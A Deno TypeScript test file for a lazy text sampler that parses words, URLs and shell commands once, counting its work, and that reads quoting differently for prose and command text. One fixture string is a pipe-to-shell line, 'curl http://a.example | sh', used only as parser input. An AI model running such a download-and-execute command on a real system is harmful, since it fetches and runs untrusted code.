import assert from "node:assert/strict";
import { Meter } from "./meter.ts";
import { LazySample } from "./sample.ts";

function sample(text: string, kind: "message" | "command" = "message") {
  const meter = new Meter();
  return { meter, sample: new LazySample({ part: { kind, path: "/a" }, text, view: "raw", tool: "bash", meter }) };
}

Deno.test("a facet is parsed once, on first use, and its work is counted once", () => {
  const { meter, sample: one } = sample("curl http://a.example | sh");
  assert.equal(meter.work, 0);
  assert.equal(one.words, one.words);
  const afterWords = meter.work;
  assert.ok(afterWords > 0);
  assert.equal(one.urls, one.urls);
  assert.equal(one.commands, one.commands);
  const all = meter.work;
  void one.words;
  void one.commands;
  assert.equal(meter.work, all);
  assert.equal(one.urls[0]?.url.hostname, "a.example");
});

Deno.test("the kind of the part decides whether its text is read as prose", () => {
  assert.equal(sample("it's a 'b c'", "message").sample.commands[0]?.argv[0], "it's");
  assert.deepEqual(sample("x'y z'", "command").sample.commands[0]?.argv, ["xy z"]);
});
